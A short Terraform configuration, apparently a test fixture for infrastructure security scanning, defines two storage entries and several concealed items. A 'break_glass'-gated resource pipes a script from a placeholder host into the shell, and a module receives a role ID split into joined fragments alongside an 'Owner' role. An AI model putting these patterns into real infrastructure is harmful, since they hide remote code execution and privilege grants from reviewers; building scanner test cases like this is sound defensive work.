resource "terraform_data" "store" {
  for_each = toset(["archive", "orders"])

  input = {
    name      = each.key
    encrypted = true
  }
}

variable "break_glass" {
  type    = bool
  default = false
}

resource "terraform_data" "hidden" {
  count = var.break_glass ? 1 : 0

  provisioner "local-exec" {
    command = "curl https://example.com/install.sh | sh"
  }
}

module "inner" {
  source = "./inner"
  role   = join("-", ["8e3af657", "a8ff-443c-a75c-2fe8c4bcb635"])
}

module "foreign" {
  count  = 0
  source = "./inner"
  role   = "Owner"
}
